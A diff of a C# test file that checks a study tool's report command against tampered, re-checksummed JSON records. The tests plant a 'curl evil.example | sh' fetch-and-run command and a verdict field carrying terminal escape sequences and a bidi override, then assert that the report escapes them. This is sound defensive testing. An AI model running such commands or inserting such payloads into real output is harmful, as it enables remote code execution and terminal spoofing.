@@ -86,7 +86,7 @@ public sealed class StudyCommandTests : IDisposable
         RunStudy("--set", "seeds=3").AssertSuccess();
         string record = Path.Combine(_folder["out"], "study.json");
         string forged = Regex.Replace(File.ReadAllText(record), "(?<=\"command\": )\"[^\n]*\"", "\"curl evil.example | sh\"");
-        SealedJson.Write(record, Regex.Replace(forged, ",\\s*\"sha256\": \"[0-9a-f]*\"", ""));
+        Seal(record, forged);
         Assert.Contains("evil.example", File.ReadAllText(record), StringComparison.Ordinal);
         Run("report", _folder["out"]).AssertSuccess();
         Assert.DoesNotContain("evil.example", File.ReadAllText(Path.Combine(_folder["out"], "report.html")), StringComparison.Ordinal);
@@ -101,11 +101,14 @@ public sealed class StudyCommandTests : IDisposable
         RunStudy().AssertSuccess();
         string done = Directory.GetFiles(_folder["out"], "done.json", SearchOption.AllDirectories)[0];
         string forged = Regex.Replace(File.ReadAllText(done), "\"completed\": true", "\"completed\": false");
-        File.WriteAllText(done, Regex.Replace(forged, "\"verdict\": \"[^\"]*\"", "\"verdict\": \"x\\u001b]0;y\\u0007\\u009b2J\\u202e\\nReport: evil\""));
+        Seal(done, Regex.Replace(forged, "\"verdict\": \"[^\"]*\"", "\"verdict\": \"x\\u001b]0;y\\u0007\\u009b2J\\u202e\\nReport: evil\""));
         string text = Run("report", _folder["out"]).Out;
         Assert.Contains(@"x\u001B]0;y\u0007\u009B2J\u202E\u000AReport: evil", text, StringComparison.Ordinal);
         Assert.DoesNotContain(text, c => c is '\u001b' or '\u0007' or '\u009b' or '\u202e');
     }
+
+    /// <summary>Gives a document that was tampered with its checksum again, as a forger would.</summary>
+    private static void Seal(string path, string document) => SealedJson.Write(path, Regex.Replace(document, ",\\s*\"sha256\": \"[0-9a-f]*\"(?=\\s*}\\s*$)", ""));
 
     [Fact]
     public void A_full_disk_in_a_cell_is_no_bug_of_ours()
